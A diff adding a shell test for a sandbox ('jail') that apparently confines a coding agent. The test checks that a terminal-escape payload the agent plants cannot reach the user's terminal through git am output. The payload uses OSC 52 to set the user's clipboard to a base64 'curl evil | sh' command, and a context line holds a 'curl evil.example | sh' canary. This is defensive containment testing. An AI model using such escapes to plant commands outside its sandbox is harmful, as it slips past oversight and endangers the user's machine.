@@ -31,3 +31,22 @@ test_land2_diff_shows_what_only_the_history_holds() {
 	assert_contains "$(git -C "$T/p" log -p)" "+curl evil.example | sh  # canary-history"
 	assert_no_file "$T/p/build.sh"
 }
+
+# jail apply ran git am on the user's terminal, and git apply quotes a line
+# with a whitespace error as it is ("patch:13: trailing whitespace." and the
+# line): the agent's ESC ] 52 wrote the user's clipboard (a command to paste
+# into the shell), ESC ] 0 the title.  What git am says reaches the terminal
+# escaped; the file lands with its bytes.
+test_land2_git_am_output_reaches_the_terminal_escaped() {
+	mkrepo "$T/p"
+	run_jail -q -D "$T/p" -- sh -c 'printf "ok()\n\033]52;c;Y3VybCBldmlsIHwgc2g=\007\033]0;t\007  \n" > a.sh
+		echo more >> README'
+	assert_eq "$rc" 0 "the run ($err)"
+	run_jail apply -D "$T/p"
+	assert_eq "$rc" 0 "jail apply ($err)"
+	assert_contains "$err" "trailing whitespace"  # git's warning, with the line
+	assert_contains "$err" '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07'
+	assert_not_contains "$err" $'\033'
+	assert_eq "$(grep -c $'\033]52;c;' "$T/p/a.sh")" 1 "the landed file's bytes"
+	assert_eq "$(tail -n 1 "$T/p/README")" "more" "the rest landed"
+}
